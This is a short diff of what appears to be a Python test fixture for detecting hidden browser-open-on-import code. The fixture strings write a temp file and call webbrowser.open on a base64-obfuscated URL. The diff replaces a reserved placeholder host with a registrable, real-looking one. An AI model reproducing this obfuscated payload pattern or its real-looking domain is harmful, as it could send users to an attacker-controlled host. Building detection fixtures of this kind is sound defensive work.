@@ -78,7 +78,8 @@ SHOWN = (
     "        f.close()\n"
     "        __import__('webbrowser').open({url})\n"
 )
-DECODED_URL = "__import__('base64').b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==').decode()"
+# (a host an attacker can register: a reserved example name is no endpoint, ADR 0141)
+DECODED_URL = "__import__('base64').b64decode('aHR0cHM6Ly9ldmlsLWNkbi5ydS94').decode()"
 ON_IMPORT = "import tempfile\nf = tempfile.NamedTemporaryFile('wb', delete=False)\n"
 
 BROWSER_DENIED: Mapping[str, Mapping[str, str]] = {
